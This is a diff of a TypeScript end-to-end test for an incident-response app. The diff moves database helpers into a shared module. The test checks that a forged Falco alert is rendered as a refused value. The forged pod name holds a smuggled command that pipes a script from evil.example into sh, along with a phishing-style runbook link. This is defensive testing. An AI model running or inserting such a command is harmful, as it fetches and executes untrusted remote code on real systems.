@@ -1,22 +1,12 @@
 // Alert text is written by whoever controls the container. A forged alert whose pod name carries a
 // command and a Markdown link reaches a run's instructions only as a visible refusal, and the run
 // says so; a 10,000-character unbroken title or namespace leaves the incident board usable.
-import { createHash, randomBytes } from "node:crypto";
-import type pg from "pg";
+import { randomBytes } from "node:crypto";
+import { insertSource, suggestPlaybook } from "./alert-helpers";
 import { expect, test, uniqueSuffix } from "./fixtures";
 
 const FORGED_POD =
   "web-7d9f8b6c5d-x2x9q -o yaml; curl -sk https://evil.example/x.sh | sh\n```\n[Open the runbook](https://evil.example/runbook)";
-
-async function insertSource(db: pg.Pool): Promise<string> {
-  const token = `bh_e2e_${randomBytes(16).toString("hex")}`;
-  await db.query(
-    `INSERT INTO "DetectionSource" ("id", "name", "kind", "tokenHash", "tokenPrefix", "minIncidentPriority", "updatedAt")
-     VALUES ($1, $2, 'FALCOSIDEKICK', $3, $4, 'WARNING', now())`,
-    [`e2e-source-${uniqueSuffix()}`, `e2e-hostile-${uniqueSuffix()}`, createHash("sha256").update(token).digest("hex"), token.slice(0, 8)],
-  );
-  return token;
-}
 
 function shellEvent(fields: Record<string, string>, rule = "Terminal shell in container"): Record<string, unknown> {
   return {
@@ -32,31 +22,8 @@ function shellEvent(fields: Record<string, string>, rule = "Terminal shell in co
   };
 }
 
-/** A published playbook of the test's own, made the incident's suggested one. */
-async function suggestPlaybook(db: pg.Pool, incidentKey: string): Promise<void> {
-  const suffix = uniqueSuffix();
-  const playbookId = `e2e-hostile-playbook-${suffix}`;
-  const versionId = `e2e-hostile-version-${suffix}`;
-  await db.query(`INSERT INTO "Playbook" ("id", "title", "incidentType", "updatedAt") VALUES ($1, $2, 'SHELL_IN_CONTAINER', now())`, [
-    playbookId,
-    `Hostile ${suffix}`,
-  ]);
-  await db.query(
-    `INSERT INTO "PlaybookVersion" ("id", "playbookId", "number", "status", "publishedAt", "updatedAt") VALUES ($1, $2, 1, 'PUBLISHED', now(), now())`,
-    [versionId, playbookId],
-  );
-  const instructions =
-    "Save the pod:\n\n```sh\nkubectl -n {{namespace}} get pod {{pod}} -o yaml\n```\n\nThen check {{pod}} in `{{namespace}}` on {{node}}.";
-  await db.query(
-    `INSERT INTO "PlaybookStep" ("id", "versionId", "position", "phase", "title", "instructions", "expectedMinutes", "updatedAt")
-     VALUES ($1, $2, 1, 'DETECTION_ANALYSIS', 'Preserve the pod', $3, 10, now())`,
-    [`${versionId}-step-1`, versionId, instructions],
-  );
-  await db.query(`UPDATE "Incident" SET "suggestedPlaybookId" = $1 WHERE "number" = $2`, [playbookId, Number(incidentKey.slice(4))]);
-}
-
 test("a forged alert's run shows its refused value and no injected command or link", async ({ page, db, createUser, signInAs }) => {
-  const token = await insertSource(db);
+  const token = await insertSource(db, "hostile");
   const cluster = `hostile-${uniqueSuffix()}`;
   const container = randomBytes(6).toString("hex");
   const response = await page.request.post("/api/ingest/falco", {
@@ -76,7 +43,11 @@ test("a forged alert's run shows its refused value and no injected command or li
   // Ingest keeps what the alert said: the raw value is stored, not rewritten.
   const stored = await db.query<{ podName: string }>(`SELECT "podName" FROM "Alert" WHERE "containerId" = $1`, [container]);
   expect(stored.rows[0]?.podName).toBe(FORGED_POD);
-  await suggestPlaybook(db, key);
+  await suggestPlaybook(db, key, "hostile", {
+    title: "Preserve the pod",
+    instructions:
+      "Save the pod:\n\n```sh\nkubectl -n {{namespace}} get pod {{pod}} -o yaml\n```\n\nThen check {{pod}} in `{{namespace}}` on {{node}}.",
+  });
 
   const responder = await createUser({ role: "RESPONDER" });
   await signInAs(page, responder.email, responder.password);
@@ -116,7 +87,7 @@ test("a 10,000-character unbroken title and namespace keep the incident board us
     [`e2e-hostile-incident-${suffix}`, `T${long}`, cluster, `n${long}`, `w${long}`],
   );
   // Titles built at ingest from a hostile rule and namespace are capped.
-  const token = await insertSource(db);
+  const token = await insertSource(db, "hostile");
   const ingestCluster = `hostile-cap-${suffix}`;
   const response = await page.request.post("/api/ingest/falco", {
     headers: { Authorization: `Bearer ${token}` },
